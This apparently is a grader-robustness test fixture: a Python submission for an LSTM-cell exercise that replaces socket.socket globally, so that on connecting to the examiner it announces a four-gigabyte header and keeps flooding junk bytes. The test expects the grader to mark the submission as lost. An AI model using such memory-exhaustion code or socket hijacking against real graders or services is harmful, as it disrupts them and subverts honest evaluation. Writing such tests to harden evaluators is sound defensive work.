# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: announces a header of four gigabytes and goes on sending
# evidence: socket
# ---
# An examiner that reads what is announced runs out of memory.
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy
# %% after lstm_cell
import json
import socket
import struct
import time


def frame(header, *blobs):
    text = header if isinstance(header, bytes) else json.dumps({**header, "sizes": [len(blob) for blob in blobs]}).encode()
    return struct.pack(">I", len(text)) + text + b"".join(blobs)


def npy(text, data=b""):
    text = text + b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def questions(channel):
    """Read and forget the examiner's questions, one at a time."""
    stream = channel.makefile("rb")
    while True:
        (length,) = struct.unpack(">I", stream.read(4))
        header = json.loads(stream.read(length))
        for size in header["sizes"]:
            stream.read(size)
        yield header["op"]


class Speaker(socket.socket):
    """Whoever connects to a path, such as the answering side, speaks like this."""

    def connect(self, address):
        super().connect(address)
        if isinstance(address, (str, bytes)):
            answer(self)


def answer(channel):
    for number, op in enumerate(questions(channel)):
        channel.sendall(struct.pack(">I", 2**32 - 1))
        channel.sendall(b"x" * 10_000_000)


socket.socket = Speaker
